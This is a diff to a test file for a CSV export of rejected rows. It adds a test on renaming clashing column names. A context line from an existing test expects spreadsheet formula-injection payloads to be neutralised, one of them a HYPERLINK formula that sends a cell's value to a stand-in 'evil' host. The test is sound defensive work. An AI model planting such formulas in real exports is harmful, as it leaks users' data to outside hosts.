@@ -16,3 +16,9 @@ it('holds no cell that a spreadsheet would run', () => {
     `\uFEFFLine,Reason,Phone,"'=1+1",Note\r\n4,Phone is empty,,"'=HYPERLINK(""http://evil/?""&A1)","x;'@SUM(1)"\r\n`,
   );
 });
+
+it('gives its own columns other names where the file has them', () => {
+  expect(rejectedRowsCsv(['Line', 'Phone', 'Reason', 'Reason (2)'], [])).toBe(
+    '\uFEFFLine (2),Reason (3),Line,Phone,Reason,Reason (2)\r\n',
+  );
+});
